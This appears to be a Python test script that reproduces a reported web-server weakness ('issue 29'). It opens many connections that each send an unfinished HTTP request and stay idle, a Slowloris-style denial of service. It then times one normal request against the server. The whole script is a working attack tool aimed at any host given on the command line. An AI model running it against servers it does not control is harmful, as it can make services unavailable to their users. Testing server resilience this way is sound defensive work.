#!/usr/bin/env python3
"""Attacks a web server as issue 29 describes, then asks it a normal question.

    flood.py HOST PORT COUNT PATH [HEADER=VALUE ...]

Opens COUNT connections that each send half a request ("GET / HTTP/1.1", "Host: x" and no
blank line) and keep quiet, then, with all of them still open, sends one whole request for
PATH and waits up to 60 s for its answer. Prints one JSON line: how many connections were
opened, the normal request's status (0 when it got none) and how long it took.
"""
import json, resource, select, socket, sys, time, http.client

host, port, count, path = sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), sys.argv[4]
headers = dict(h.split("=", 1) for h in sys.argv[5:])
soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
resource.setrlimit(resource.RLIMIT_NOFILE, (min(hard, count + 256), hard))

half = b"GET / HTTP/1.1\r\nHost: x\r\n"
pending, opened = [], []
for _ in range(count):
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.setblocking(False)
    s.connect_ex((host, port))
    pending.append(s)
poller = select.poll()
byfd = {s.fileno(): s for s in pending}
for fd in byfd:
    poller.register(fd, select.POLLOUT)
deadline = time.time() + 20
while byfd and time.time() < deadline:
    for fd, _ in poller.poll(500):
        s = byfd.pop(fd)
        poller.unregister(fd)
        if s.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR) == 0:
            try:
                s.send(half)
                opened.append(s)
                continue
            except OSError:
                pass
        s.close()
pending = list(byfd.values())
start = time.time()
status = 0
try:
    c = http.client.HTTPConnection(host, port, timeout=60)
    c.request("GET", path, headers=headers)
    status = c.getresponse().status
except Exception as e:
    status = 0
print(json.dumps({"opened": len(opened), "status": status, "seconds": round(time.time() - start, 2)}))
for s in opened + pending:
    s.close()
